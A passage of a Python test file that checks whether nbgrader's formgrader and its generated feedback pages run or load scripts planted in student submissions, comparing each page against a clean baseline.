    harm = set(harm_done(lab, root))  # what an earlier test's pages did is reported there
    baselines: dict[tuple[str, int | None], tuple[set[str], str]] = {}
    for name, url, student in pages:
        seen = visit(context, url)
        if student == "clean" and (name, seen.status) not in baselines:
            requests = {normalize(u, "clean") for _, u in seen.requests}
            baselines[name, seen.status] = (requests, seen.titles[0] if seen.titles else "")
        # a page unlike the clean one (nbgrader's error page) has no baseline: GETs on this machine only
        found = findings(seen, student or "", baselines.get((name, seen.status)) if student else None)
        now = harm_done(lab, root)
        found += [h for h in now if h not in harm]
        harm.update(now)
        who = "the class" if student is None else student if len(student) < 24 else f"{student[:20]}..."
        problems += [f"{name} of {who} ({url.split('?')[0][:90]}): {f}" for f in found]
    return problems


def test_the_formgrader_runs_no_script_of_a_submission(graded, lab, instructor):
    subs = graded["submissions"]
    order = ["clean", *sorted(s for s in subs if s not in ("clean", EXCHANGE_ID))]  # that one: the next test
    pages: list[tuple[str, str, str | None]] = [
        ("submission view", lab.url(f"formgrader/submissions/{nb_id}/"), student)
        for student in order
        for nb_id in subs[student][1].values()
    ]
    pages += [
        (name, lab.url(path), None)
        for name, path in (
            ("assignments", "formgrader/manage_assignments"),
            ("submissions list", f"formgrader/manage_submissions/{M}"),
            ("manual grading", f"formgrader/gradebook/{M}/{M}"),
            ("students", "formgrader/manage_students"),
            ("student's assignments", f"formgrader/manage_students/{MEAN_ID}"),
            ("student's notebooks", f"formgrader/manage_students/{MEAN_ID}/{M}"),
        )
    ]
    assert len(pages) == len(order) + 6
    problems = check_pages(lab, instructor, graded["course"], pages)
    assert not problems, "the formgrader ran or loaded what a submission put in it:\n" + "\n".join(problems)


def test_a_student_id_from_the_exchange_runs_no_script_in_the_formgrader(graded, lab, instructor):
    if EXCHANGE_ID not in graded["submissions"]:  # refused at grading: the formgrader has nothing of it
        line = next(ln for ln in graded["summary"].splitlines() if "exchange-id" in ln)
        assert "refused" in line, line
        return
    assert graded["submissions"][EXCHANGE_ID][0] == FULL
    (nb_id,) = graded["submissions"][EXCHANGE_ID][1].values()
    (clean,) = graded["submissions"]["clean"][1].values()
    student = urllib.parse.quote(EXCHANGE_ID, safe="")
    pages: list[tuple[str, str, str | None]] = [
        ("submission view", lab.url(f"formgrader/submissions/{clean}/"), "clean"),  # the baseline
        ("submission view", lab.url(f"formgrader/submissions/{nb_id}/"), EXCHANGE_ID),
        ("student's assignments", lab.url(f"formgrader/manage_students/{student}"), None),
        ("student's notebooks", lab.url(f"formgrader/manage_students/{student}/{M}"), None),
    ]
    problems = check_pages(lab, instructor, graded["course"], pages)
    assert not problems, "the formgrader ran the student id:\n" + "\n".join(problems)


def test_the_formgrader_serves_no_file_of_the_student(graded, lab, instructor):
    course = graded["course"]
    (nb_id,) = graded["submissions"][MEAN_ID][1].values()
    served = instructor.request.get(lab.url(f"formgrader/submissions/{nb_id}/{urllib.parse.quote(EXTRA_NAME)}"))
    csp = served.headers.get("content-security-policy", "")
    assert served.status == 404 or "sandbox" in csp, (served.status, csp, served.text()[:80])
    assert not stray_files(course / "autograded" / MEAN_ID / M, course, f"{M}.ipynb")


def test_no_feedback_file_runs_a_script_opened_as_a_file_or_served(graded, lab, instructor):
    course = graded["course"]
    graded_ids = [s for s in (*EXPECTED_FULL, EXCHANGE_ID) if s in graded["submissions"]]
    students = ["clean", *sorted(s for s in graded_ids if s != "clean")]
    files = {s: course / "feedback" / s / M / f"{M}.html" for s in students}
    assert all(f.is_file() for f in files.values()), [s for s, f in files.items() if not f.is_file()]
    pages: list[tuple[str, str, str | None]] = [("feedback file", f.as_uri(), s) for s, f in files.items()]
    pages += [
        ("feedback served", lab.url(f"files/{urllib.parse.quote(str(f.relative_to(course)))}"), s)
        for s, f in files.items()
    ]
    problems = check_pages(lab, instructor, course, pages)
    assert not problems, "a feedback page ran or loaded what a submission put in it:\n" + "\n".join(problems)
